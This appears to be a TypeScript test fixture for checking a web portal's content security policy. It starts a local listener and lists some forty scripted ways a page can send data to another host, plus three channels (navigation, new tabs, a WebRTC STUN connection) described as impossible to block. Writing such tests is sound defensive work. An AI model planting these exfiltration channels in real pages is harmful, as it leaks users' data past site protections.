import { createSocket } from 'node:dgram';
import { createServer, type AddressInfo } from 'node:net';

/** A server elsewhere that hears whoever comes, by a request or by a packet. */
export interface Elsewhere {
  readonly origin: string;
  readonly port: number;
  /** The first line of each request so far, and a word for each packet; a connection that says nothing took nothing along. */
  readonly heard: string[];
  readonly close: () => Promise<void>;
}

/** Opens a port that answers every request with an empty page, and hears packets on the same number. */
export async function openElsewhere(): Promise<Elsewhere> {
  const heard: string[] = [];
  const page =
    'HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n';
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (bytes) => {
      heard.push(bytes.toString('latin1').split('\r\n', 1)[0] ?? '');
      socket.end(page);
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  const packets = createSocket('udp4').on('message', () => heard.push('a packet'));
  await new Promise<void>((done) => packets.bind(port, '127.0.0.1', done));
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    heard,
    close: async () => {
      packets.close();
      await new Promise((done) => server.close(done));
    },
  };
}

/** What a script is given: where to, and what it would take there. */
interface Loot {
  readonly to: string;
  readonly port: number;
  readonly nonce: string;
}

/** A way for a script to send something elsewhere. */
export type Way = (loot: Loot) => unknown;

/** Each runs in the page, as a script of the portal would. */
export const closedWays: Readonly<Record<string, Way>> = {
  picture: ({ to }) => {
    new Image().src = to;
  },
  'picture set': ({ to }) => {
    const image = document.createElement('img');
    image.srcset = `${to} 2x, ${to} 1x`;
    document.body.append(image);
  },
  'picture of a vector drawing': ({ to }) => {
    document.body.insertAdjacentHTML('beforeend', `<svg><image href="${to}"/><use href="${to}#a"/></svg>`);
  },
  'style attribute': ({ to }) => {
    document.body.style.backgroundImage = `url(${to})`;
  },
  'style element with the nonce of the page': ({ to, nonce }) => {
    const style = document.createElement('style');
    style.nonce = nonce;
    style.textContent = `@import url(${to}); body { background: url(${to}); cursor: url(${to}), auto; }`;
    document.head.append(style);
  },
  'constructed style sheet': ({ to }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::after { content: url(${to}); }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'style sheet elsewhere': ({ to }) => {
    document.head.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${to}">`);
  },
  font: async ({ to }) => {
    await new FontFace('loot', `url(${to})`).load();
  },
  form: ({ to }) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = to;
    document.body.append(form);
    form.submit();
  },
  'form in a new tab': ({ to }) => {
    const form = document.createElement('form');
    form.action = to;
    form.target = '_blank';
    document.body.append(form);
    form.requestSubmit();
  },
  fetch: ({ to }) => fetch(to, { mode: 'no-cors' }),
  'fetch that outlives the page': ({ to }) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true }),
  'old request': ({ to }) => {
    const request = new XMLHttpRequest();
    request.open('GET', to);
    request.send();
  },
  beacon: ({ to }) => navigator.sendBeacon(to, 'loot'),
  socket: ({ to }) => new WebSocket(to.replace('http', 'ws')),
  'event source': ({ to }) => new EventSource(to),
  transport: ({ port }) => {
    const made: unknown = Reflect.get(globalThis, 'WebTransport');
    if (typeof made === 'function') Reflect.construct(made, [`https://127.0.0.1:${port}/`]);
  },
  script: ({ to }) => {
    const script = document.createElement('script');
    script.src = to;
    document.head.append(script);
  },
  module: ({ to }) => import(/* @vite-ignore */ to),
  frame: ({ to }) => {
    document.body.insertAdjacentHTML('beforeend', `<iframe src="${to}"></iframe>`);
  },
  'empty frame': ({ to }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const image = frame.contentDocument?.createElement('img');
    if (image) image.src = to;
  },
  object: ({ to }) => {
    document.body.insertAdjacentHTML('beforeend', `<object data="${to}"></object><embed src="${to}">`);
  },
  film: ({ to }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<video src="${to}" poster="${to}"></video><audio src="${to}">`,
    );
  },
  worker: ({ to }) => {
    const text = `fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'shared worker': ({ to }) => new SharedWorker(to),
  'service worker': ({ to }) => navigator.serviceWorker.register(to),
  'links that load ahead': ({ to }) => {
    for (const rel of ['prefetch', 'modulepreload', 'icon', 'manifest', 'prerender'])
      document.head.insertAdjacentHTML('beforeend', `<link rel="${rel}" href="${to}">`);
    for (const kind of ['script', 'style', 'image', 'font', 'fetch'])
      document.head.insertAdjacentHTML('beforeend', `<link rel="preload" as="${kind}" href="${to}">`);
  },
  'rules that load ahead': ({ to }) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] });
    document.head.append(rules);
  },
  'ping of a link': ({ to }) => {
    const link = document.createElement('a');
    link.href = '#here';
    link.ping = to;
    document.body.append(link);
    link.click();
  },
  'picture of a field, of a set, and words of a film': ({ to }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<input type="image" src="${to}"><picture><source srcset="${to}"><img></picture>
       <video><source src="${to}"><track default src="${to}"></video><table background="${to}"></table>`,
    );
  },
  'effect of a style': ({ to }) => {
    const names = ['filter', 'mask-image', 'clip-path', 'list-style-image', 'border-image-source', 'cursor'];
    for (const name of names) document.body.style.setProperty(name, `url(${to}#a)`);
    document.body.style.setProperty('background-image', `image-set("${to}" 1x)`);
  },
  'effect of a drawing': ({ to }) => {
    const filter = `<filter id="loot"><feImage href="${to}"/></filter>`;
    const drawing = `<svg width="9" height="9">${filter}<rect width="9" height="9" filter="url(#loot)"/></svg>`;
    document.body.insertAdjacentHTML('beforeend', drawing);
  },
  'frame with a text of its own': ({ to }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${to}"><meta http-equiv="refresh" content="0;url=${to}">`;
    document.body.append(frame);
  },
  'worklet of sounds': ({ to }) => new AudioContext().audioWorklet.addModule(to),
  'worklet of styles': ({ to }) => {
    const { paintWorklet } = CSS as unknown as { paintWorklet: { addModule: (address: string) => unknown } };
    return paintWorklet.addModule(to);
  },
  'request for later': ({ to }) => {
    const made: unknown = Reflect.get(globalThis, 'fetchLater');
    if (typeof made === 'function') made(to, { activateAfter: 0 });
  },
  'provider of identities': ({ to }) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: to, clientId: 'loot' }] },
    } as CredentialRequestOptions),
  'method of payment': ({ to }) =>
    new PaymentRequest([{ supportedMethods: to }], {
      total: { label: 'loot', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment(),
  'source of a sale': ({ to }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img attributionsrc="${to}"><a attributionsrc="${to}" id="sale">x</a>`,
    );
    document.querySelector<HTMLElement>('#sale')?.click();
  },
  'another base': ({ to }) => {
    document.head.insertAdjacentHTML('afterbegin', `<base href="${to}">`);
    document.body.insertAdjacentHTML('beforeend', '<img src="loot.png">');
  },
};

/** What no page can refuse, each with the reason; the decision on remotes says what follows from it. */
export const openWays: Readonly<Record<string, { readonly why: string; readonly go: Way }>> = {
  navigation: {
    why: 'a policy that a page could set against leaving it was never finished by browsers',
    go: ({ to }) => location.assign(to),
  },
  'new tab': {
    why: 'as leaving the page; forbidding all new tabs would take the links to Facebook along',
    go: ({ to }) => window.open(to),
  },
  'peer connection': {
    why: 'browsers do not know the directive against it, and an empty frame gives back what a script takes away',
    go: async ({ port }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      peer.createDataChannel('loot');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
};
